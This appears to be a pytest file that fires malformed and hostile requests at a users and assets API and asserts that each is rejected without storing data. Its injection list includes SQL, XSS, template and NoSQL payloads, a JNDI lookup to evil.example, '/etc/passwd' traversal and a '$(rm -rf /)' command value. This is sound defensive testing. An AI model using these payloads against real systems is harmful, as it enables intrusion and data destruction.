"""A corpus of hostile requests against every operation: each answer is a 4xx problem and
nothing is stored."""

from __future__ import annotations

import json

import boto3
import pytest

from tests.api.problems import PROBLEM_STATUSES, assert_problem

UUID = "00000000-0000-4000-8000-000000000000"
INJECTIONS = [
    "'; DROP TABLE users;--",
    '" OR "1"="1',
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../../../etc/passwd",
    "$(rm -rf /)",
    '{"$ne": null}',
]
NUL = "a\u0000b"
BAD_VALUES: list[object] = [NUL, "x" * 100_000, 10**40, -(10**40), 1e308, None, [], {}, True]


def deep(levels: int) -> str:
    return '{"name": ' + "[" * levels + "]" * levels + "}"


def corpus():
    """(id, method, path, body bytes or None, headers)"""
    cases = []

    def add(case_id, method, path, body=None, headers=None):
        cases.append(pytest.param(method, path, body, headers or {}, id=case_id))

    bodies: dict[str, dict[str, object]] = {
        "/users": {"email": "ada@example.com", "name": "Ada"},
        "/assets": {"fileName": "a.txt", "contentType": "text/plain", "size": 5},
    }
    for path, valid in bodies.items():
        op = f"POST {path}"
        add(f"{op} invalid utf-8", "POST", path, b'{"name": "\xff\xfe"}')
        add(f"{op} deeply nested", "POST", path, deep(100_00).encode())
        add(
            f"{op} duplicate keys",
            "POST",
            path,
            json.dumps(valid)[:-1].encode() + b', "name": "x"}',
        )
        add(f"{op} not an object", "POST", path, b'"just a string"')
        add(f"{op} empty body", "POST", path, b"")
        add(f"{op} truncated", "POST", path, json.dumps(valid)[:-3].encode())
        for content_type in ("text/plain", "application/xml", "application/x-www-form-urlencoded"):
            add(
                f"{op} as {content_type}",
                "POST",
                path,
                json.dumps(valid).encode(),
                {"Content-Type": content_type},
            )
        for field in valid:
            for bad in BAD_VALUES:
                add(
                    f"{op} {field}={str(bad)[:20]!r}",
                    "POST",
                    path,
                    json.dumps({**valid, field: bad}).encode(),
                )
        add(f"{op} extra field", "POST", path, json.dumps({**valid, "admin": True}).encode())
        add(
            f"{op} overlong idempotency key",
            "POST",
            path,
            json.dumps(valid).encode(),
            {"Idempotency-Key": "k" * 300},
        )
        add(f"{op} huge header", "POST", path, json.dumps(valid).encode(), {"X-Junk": "j" * 20000})
    for injection in INJECTIONS:
        add(
            f"email={injection}",
            "POST",
            "/users",
            json.dumps({"email": injection, "name": "Ada"}).encode(),
        )
        add(
            f"contentType={injection}",
            "POST",
            "/assets",
            json.dumps({"fileName": "a", "contentType": injection, "size": 1}).encode(),
        )
        for path in ("/users", "/assets"):
            add(f"GET {path}?cursor={injection}", "GET", f"{path}?cursor={injection}")
            add(f"GET {path}/{injection}", "GET", f"{path}/{injection}")
            add(f"DELETE {path}/{injection}", "DELETE", f"{path}/{injection}")
        add(f"GET /users?email={injection}", "GET", f"/users?email={injection}")
        add(f"GET /assets?status={injection}", "GET", f"/assets?status={injection}")
    for path in ("/users", "/assets"):
        for limit in ("0", "-1", "101", str(10**40), "1e3", "NaN", "ten", ""):
            add(f"GET {path}?limit={limit}", "GET", f"{path}?limit={limit}")
        add(f"GET {path} overlong id", "GET", f"{path}/{'a' * 5000}")
        add(f"GET {path} NUL id", "GET", f"{path}/%00")
    add("PATCH NUL name", "PATCH", f"/users/{UUID}", json.dumps({"name": NUL}).encode())
    add("PATCH invalid utf-8", "PATCH", f"/users/{UUID}", b'{"name": "\xc3\x28"}')
    add(
        "PATCH overlong If-Match",
        "PATCH",
        f"/users/{UUID}",
        b'{"name": "x"}',
        {"If-Match": '"' + "1" * 1000 + '"'},
    )
    add(
        "PATCH wrong content type",
        "PATCH",
        f"/users/{UUID}",
        b'{"name": "x"}',
        {"Content-Type": "text/plain"},
    )
    add("DELETE overlong If-Match", "DELETE", f"/users/{UUID}", None, {"If-Match": "x" * 300})
    add("download of no asset", "GET", f"/assets/{UUID}/download")
    add("GET /users?email=NUL", "GET", "/users?email=a%00b%40c.d")
    return cases


@pytest.mark.parametrize(("method", "path", "body", "headers"), corpus())
def test_a_hostile_request_is_a_4xx_problem_and_stores_nothing(
    client, settings, method, path, body, headers
):
    all_headers = {"Content-Type": "application/json", **headers} if body is not None else headers
    response = client.request(method, path, content=body, headers=all_headers)

    assert 400 <= response.status_code < 500, response.text
    assert_problem(response, response.status_code)
    assert response.status_code in PROBLEM_STATUSES
    assert stored_items(settings) == []


@pytest.mark.parametrize("text", INJECTIONS)
def test_injection_strings_in_free_text_are_stored_and_returned_verbatim(client, text):
    created = client.post("/users", json={"email": "ada@example.com", "name": text})
    assert created.status_code == 201
    assert client.get(created.headers["location"]).json()["name"] == text


def stored_items(settings):
    dynamodb = boto3.resource(
        "dynamodb", region_name=settings.region, endpoint_url=settings.aws_endpoint_url
    )
    return [
        item
        for table in (
            settings.table("users"),
            settings.table("assets"),
            settings.table("idempotency"),
        )
        for item in dynamodb.Table(table).scan()["Items"]
    ]
